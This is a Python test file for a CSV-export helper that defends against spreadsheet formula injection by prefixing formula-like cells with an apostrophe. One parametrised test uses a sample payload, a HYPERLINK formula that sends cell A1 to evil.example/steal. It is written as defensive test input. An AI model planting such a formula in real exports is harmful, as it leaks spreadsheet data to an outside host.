"""CSV cells a spreadsheet opens as text, never as formulas (OWASP's CSV injection)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from escalations.lib.spreadsheet import FORMULA_STARTS, CsvRows, spreadsheet_cell

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "  ="])
def test_a_text_that_starts_like_a_formula_gets_an_apostrophe(start):
    value = f'{start}HYPERLINK("http://evil.example/steal?"&A1,"click")'
    assert spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Checkout fails", "", "a=b", "1-2", 42, -3.5, None])
def test_anything_else_is_left_as_it_is(value):
    assert spreadsheet_cell(value) == value


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_no_written_cell_reads_as_a_formula(values):
    line = CsvRows().line(values)
    for cell in next(csv.reader(io.StringIO(line))):
        assert not cell.lstrip(" ").startswith(FORMULA_STARTS)


def test_every_export_writes_through_csv_rows():
    """csv.writer appears only in the one module that neutralises cells."""
    writers = [
        str(path.relative_to(ROOT))
        for path in (ROOT / "escalations").rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text()) and path.name != "spreadsheet.py"
    ]
    assert writers == []
